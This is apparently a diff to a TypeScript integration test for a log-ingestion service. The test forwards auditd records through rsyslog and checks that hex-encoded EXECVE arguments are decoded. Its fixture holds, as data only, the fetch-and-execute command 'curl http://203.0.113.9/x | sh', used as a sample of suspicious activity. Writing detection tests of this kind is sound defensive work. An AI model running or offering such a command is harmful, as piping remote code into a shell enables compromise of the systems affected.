@@ -20,6 +20,7 @@ let receiver: RunningSyslogReceiver;
 let rsyslogd: ChildProcess | undefined;
 const dir = mkdtempSync(join(tmpdir(), "vigil-rsyslog-"));
 const watched = join(dir, "app.log");
+const auditLog = join(dir, "audit.log");
 let rsyslogOutput = "";
 
 function rsyslogConf(port: number, token: string): string {
@@ -31,6 +32,7 @@ ruleset(name="forward") {
   action(type="omfwd" target="127.0.0.1" port="${port}" protocol="tcp" TCP_Framing="octet-counted" template="vigil")
 }
 input(type="imfile" File="${watched}" Tag="sshd" Facility="auth" Severity="info" ruleset="forward")
+input(type="imfile" File="${auditLog}" Tag="auditd" Facility="local6" Severity="info" ruleset="forward")
 `;
 }
 
@@ -40,6 +42,7 @@ beforeAll(async () => {
   b = await h.createTenant();
   receiver = await startSyslog(h, syslogTcpReceiver);
   writeFileSync(watched, "");
+  writeFileSync(auditLog, "");
   const conf = join(dir, "rsyslog.conf");
   writeFileSync(conf, rsyslogConf(receiver.port, a.token));
   rsyslogd = spawn("rsyslogd", ["-n", "-f", conf, "-i", join(dir, "rsyslogd.pid")], { stdio: ["ignore", "pipe", "pipe"] });
@@ -72,6 +75,26 @@ describe("rsyslog forwarding a file over TCP (octet-counted)", () => {
     expect(accepted?.doc).toMatchObject({ user: { name: "deploy" }, source: { ip: "198.51.100.20" }, event: { outcome: "success" } });
     expect(receiver.stats.dropped).toEqual({ noToken: 0, invalidToken: 0, overload: 0, rejected: 0, shutdown: 0 });
     const ofB = await h.db.withTenant(b.tenantId, (tx) => tx.event.findMany({ where: { raw: { contains: "rsyslog-" } } }));
+    expect(ofB).toEqual([]);
+  });
+
+  it("forwards /var/log/audit/audit.log as rsyslog's imfile reads it: audit records parsed, hex arguments decoded", async () => {
+    // `sh -c "curl http://203.0.113.9/x | sh"`: auditd writes the argument with spaces in hex.
+    const hexArg = Buffer.from("curl http://203.0.113.9/x | sh").toString("hex").toUpperCase();
+    const lines = [
+      `type=SYSCALL msg=audit(1795946000.101:9001): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=10 pid=11 auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4 comm="sh" exe="/usr/bin/dash" key="rsyslog-audit"`,
+      `type=EXECVE msg=audit(1795946000.101:9001): argc=3 a0="sh" a1="-c" a2=${hexArg}`,
+      `type=PROCTITLE msg=audit(1795946000.101:9001): proctitle=${Buffer.from("sh\0-c\0rsyslog-audit").toString("hex").toUpperCase()}`,
+    ];
+    appendFileSync(auditLog, `${lines.join("\n")}\n`);
+    const rows = await waitFor(() => rowsWith(h, "msg=audit(1795946000.101:9001)"), (r) => r.length >= 3, 20_000);
+    expect(rows.length, `rsyslogd said: ${rsyslogOutput}`).toBe(3);
+    const byType = new Map(rows.map((r) => [(r.doc as { original: { type: string } }).original.type, r.doc]));
+    expect(byType.get("SYSCALL")).toMatchObject({ event: { module: "auditd", category: "process" }, original: { SYSCALL: "execve", euid: "33", key: "rsyslog-audit", appname: "auditd" }, process: { executable: "/usr/bin/dash", pid: 11 } });
+    expect(byType.get("EXECVE")).toMatchObject({ original: { a2: "curl http://203.0.113.9/x | sh" }, process: { command_line: "sh -c curl http://203.0.113.9/x | sh" } });
+    expect(byType.get("PROCTITLE")).toMatchObject({ process: { command_line: "sh -c rsyslog-audit" } });
+    expect(rows.every((r) => r.tenant_id === a.tenantId && r.receiver === "syslog")).toBe(true);
+    const ofB = await h.db.withTenant(b.tenantId, (tx) => tx.event.findMany({ where: { raw: { contains: "msg=audit(" } } }));
     expect(ofB).toEqual([]);
   });
 });
